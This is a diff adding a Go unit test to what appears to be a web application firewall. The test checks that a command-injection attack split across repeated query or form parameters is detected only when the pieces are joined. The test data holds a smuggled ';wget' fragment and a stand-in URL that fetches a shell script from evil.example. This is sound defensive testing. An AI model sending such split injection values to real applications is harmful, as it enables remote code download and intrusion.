@@ -201,6 +201,28 @@ func TestDetectionOnly(t *testing.T) {
 }
 
 // What honest clients of business applications send passes.
+// An attack in pieces, under one name, is seen as the application would put it
+// together. None of the pieces is one.
+func TestPieces(t *testing.T) {
+	e := engine(t, paranoia1)
+	pieces := []string{"file=a;wget", "file=http://evil.example/x.sh"}
+	for _, p := range pieces {
+		if it, matches := judge(t, e, get("/?"+p), ""); it != nil {
+			t.Fatalf("%s is an attack by itself: %+v", p, matches)
+		}
+	}
+	whole := strings.Join(pieces, "&")
+	if it, _ := judge(t, e, get("/?"+whole), ""); it == nil {
+		t.Error("the query passes")
+	}
+	if it, _ := judge(t, e, post("application/x-www-form-urlencoded"), whole); it == nil {
+		t.Error("the form passes")
+	}
+	if it, matches := judge(t, e, get("/?day=mon&day=tue&day=wed&tag=a&tag=b"), ""); it != nil {
+		t.Errorf("an honest one: %+v", matches)
+	}
+}
+
 func TestHonest(t *testing.T) {
 	e := engine(t, paranoia1)
 	for _, method := range paranoia1.Methods {
